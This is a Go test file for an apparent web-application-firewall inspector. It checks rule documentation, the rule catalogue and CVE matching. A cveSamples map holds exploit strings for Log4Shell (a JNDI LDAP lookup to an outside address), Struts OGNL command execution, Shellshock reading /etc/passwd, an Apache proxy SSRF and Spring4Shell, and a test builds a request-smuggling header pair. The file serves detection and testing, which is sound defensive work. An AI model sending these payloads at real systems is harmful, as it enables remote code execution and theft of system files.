package inspect

import (
	"regexp"
	"slices"
	"testing"
)

var ruleIDShape = regexp.MustCompile(`^[0-9]{6}$`)

// TestEveryRuleIsDocumented: every rule the Inspector can report has a
// description, a risk level and application types, and every documented
// id is a rule. New rules of the catalogue fail here until described.
func TestEveryRuleIsDocumented(t *testing.T) {
	t.Parallel()
	ids := map[string]bool{}
	for _, r := range catalogue {
		if ids[r.id] {
			t.Errorf("rule %s appears twice in the catalogue", r.id)
		}
		ids[r.id] = true
	}
	for _, r := range framingRules {
		if ids[r.ID] {
			t.Errorf("framing rule %s is also in the catalogue", r.ID)
		}
		ids[r.ID] = true
	}
	for id := range ids {
		d, ok := ruleDocs[id]
		switch {
		case !ok:
			t.Errorf("rule %s has no entry in ruleDocs", id)
		case d.description == "":
			t.Errorf("rule %s has no description", id)
		case d.risk < RiskHigh || d.risk > RiskLow:
			t.Errorf("rule %s has risk level %d, want 1, 2 or 3", id, d.risk)
		case len(d.apps) == 0:
			t.Errorf("rule %s has no application type", id)
		case d.cve != "" && cveDescriptions[d.cve] == "":
			t.Errorf("rule %s is about %s, which has no description", id, d.cve)
		}
		if !ruleIDShape.MatchString(id) {
			t.Errorf("rule id %q is not 6 digits", id)
		}
	}
	for id := range ruleDocs {
		if !ids[id] {
			t.Errorf("ruleDocs describes %s, which is no rule", id)
		}
	}
}

// TestRulesIsTheCatalogue: Rules lists the catalogue's rules with their
// attack type and level, in order, then the framing rules, and hands out
// copies.
func TestRulesIsTheCatalogue(t *testing.T) {
	t.Parallel()
	got := Rules()
	if len(got) != len(catalogue)+len(framingRules) {
		t.Fatalf("Rules() has %d rules, want %d", len(got), len(catalogue)+len(framingRules))
	}
	for i, r := range catalogue {
		g := got[i]
		if g.ID != r.id || g.Attack != r.attack || g.Level != r.level || g.Webshell != r.webshell {
			t.Errorf("Rules()[%d] = %s %s level %d webshell %v, want %s %s level %d webshell %v",
				i, g.ID, g.Attack, g.Level, g.Webshell, r.id, r.attack, r.level, r.webshell)
		}
	}
	attacks := []string{AttackSQLi, AttackXSS, AttackCmdi, AttackLFI, AttackRFI, AttackWebshell, AttackRobot, AttackVuln}
	for _, g := range got {
		if !slices.Contains(attacks, g.Attack) || g.Level < 1 || g.Level > 3 || g.Description == "" {
			t.Errorf("rule %+v", g)
		}
	}
	got[0].ApplicationTypes[0] = "changed"
	got[0].Description = "changed"
	if again := Rules(); again[0].ApplicationTypes[0] == "changed" || again[0].Description == "changed" {
		t.Fatal("Rules() shares its slices with its callers")
	}
}

// TestFramingRulesAreWhatInspectReports: the framing rule is reported, at
// level 1, with the attack type the catalogue gives it.
func TestFramingRulesAreWhatInspectReports(t *testing.T) {
	t.Parallel()
	in, err := Compile(Config{Enabled: true, Common: true, Level: 1})
	if err != nil {
		t.Fatal(err)
	}
	v := in.Inspect(&Request{Method: "POST", Path: "/", Headers: []Pair{{Name: "Transfer-Encoding", Value: "chunked"}, {Name: "Content-Length", Value: "4"}}})
	if v.RuleID != framingRules[0].ID || v.Attack != framingRules[0].Attack {
		t.Fatalf("verdict %+v, want rule %s (%s)", v, framingRules[0].ID, framingRules[0].Attack)
	}
}

// cveSamples is an exploit request value of each CVE a rule is about.
var cveSamples = map[string]string{
	"CVE-2021-44228": "${jndi:ldap://198.51.100.7:1389/a}",
	"CVE-2017-5638":  "%{(#_memberAccess['allowStaticMethodAccess']=true).(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}.multipart/form-data",
	"CVE-2014-6271":  "() { :; }; /bin/bash -c 'cat /etc/passwd'",
	"CVE-2021-40438": "unix:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA|http://example.com/",
	"CVE-2022-22965": "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
}

// TestRulesAboutACVEMatchIt: a rule that names a CVE matches an exploit of
// it, and Vulnerabilities lists each CVE with its rules.
func TestRulesAboutACVEMatchIt(t *testing.T) {
	t.Parallel()
	byCVE := map[string][]string{}
	for i := range catalogue {
		r := &catalogue[i]
		cve := ruleDocs[r.id].cve
		if cve == "" {
			continue
		}
		byCVE[cve] = append(byCVE[cve], r.id)
		sample, ok := cveSamples[cve]
		if !ok {
			t.Errorf("rule %s is about %s: add an exploit sample to cveSamples", r.id, cve)
			continue
		}
		if _, _, ok := r.match(sample); !ok {
			t.Errorf("rule %s, about %s, does not match %q", r.id, cve, sample)
		}
	}
	vulns := Vulnerabilities()
	if len(vulns) != len(byCVE) || len(vulns) == 0 {
		t.Fatalf("Vulnerabilities() = %+v, want the %d CVEs %v", vulns, len(byCVE), byCVE)
	}
	for i, v := range vulns {
		if !slices.Equal(v.RuleIDs, byCVE[v.CVE]) || v.Description == "" {
			t.Errorf("vulnerability %+v, want rules %v and a description", v, byCVE[v.CVE])
		}
		if i > 0 && compareCVE(vulns[i-1].CVE, v.CVE) >= 0 {
			t.Errorf("%s listed after %s", v.CVE, vulns[i-1].CVE)
		}
	}
}

func TestCompareCVE(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		a, b string
		want int
	}{
		{"CVE-2017-5638", "CVE-2021-44228", -1},
		{"CVE-2021-9999", "CVE-2021-44228", -1},
		{"CVE-2021-44228", "CVE-2021-45046", -1},
		{"CVE-2021-44228", "CVE-2021-44228", 0},
		{"CVE-2022-1000", "CVE-2021-44228", 1},
	} {
		if got := compareCVE(tt.a, tt.b); got != tt.want {
			t.Errorf("compareCVE(%s, %s) = %d, want %d", tt.a, tt.b, got, tt.want)
		}
	}
}
